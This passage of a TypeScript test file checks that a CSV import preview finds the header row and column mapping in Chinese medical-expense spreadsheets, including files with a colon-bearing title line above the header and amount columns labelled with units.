  const next = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('sept.csv', '制表单位：厦门某某有限公司,,填报日期：2024-09-01,', '姓名,就诊日期,医疗机构,金额', '赵六,2024-08-03,厦门市中医院,30.00')));
  assert.deepEqual([next.headerRow, next.mappingSource], [2, 'remembered']);
  // A colon inside brackets or before a unit is a header's, and a header naming fields is still found below such a line.
  const units = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('units.csv', '单位名称：厦门某某有限公司,联系电话：0592-5551234', '姓名,就诊日期,医疗机构,金额（单位：元）', '赵六,2024-08-03,厦门市中医院,30.00')));
  assert.deepEqual([units.headerRow, units.columns[3], units.mapping.amount, units.accepted], [2, '金额（单位：元）', 3, 1]);
  const plainUnit = await ok<ImportPreview>(s.dispatch('import.preview', csvOf('unit.csv', '姓名,就诊日期,医疗机构,金额：元', '赵六,2024-08-04,厦门市中医院,30.00')));
  assert.deepEqual([plainUnit.headerRow, plainUnit.mapping.amount, plainUnit.accepted], [1, 3, 1]);
  s.close();
});
